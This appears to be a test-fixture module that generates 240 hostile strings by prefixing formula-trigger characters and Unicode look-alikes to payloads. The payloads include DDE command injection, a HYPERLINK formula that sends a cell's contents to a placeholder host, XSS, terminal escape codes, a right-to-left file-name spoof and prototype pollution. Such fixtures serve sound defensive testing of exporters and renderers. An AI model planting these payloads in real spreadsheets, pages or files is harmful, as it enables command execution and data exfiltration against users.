const PAYLOADS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x/?"&A1,"click")',
  "1+1",
  "<img src=x onerror=alert(1)>",
  '"><script>alert(1)</script>',
  "a\r\n=2+2",
  'x","=3+3',
  "x;=4+4",
  "\u001b[31mred\u001b[0m",
  "\u202egnp.exe",
  "__proto__",
  "e\u0301\u0301\u0301\u0301",
  "\ud800 alone",
  "\u2028next",
  "x".repeat(40_000),
  "",
];
const STARTS = [
  "",
  "=",
  "+",
  "-",
  "@",
  "\t",
  "\r",
  "\n",
  " =",
  "\u00a0=",
  "\u200b=",
  "\ufeff=",
  "\uff1d",
  "'=",
  '"=',
];

/** 240 of them: what spreadsheets run, what terminals and pages obey, what breaks a format. */
export const HOSTILE_TEXTS: readonly string[] = STARTS.flatMap((start) =>
  PAYLOADS.map((text) => start + text),
);
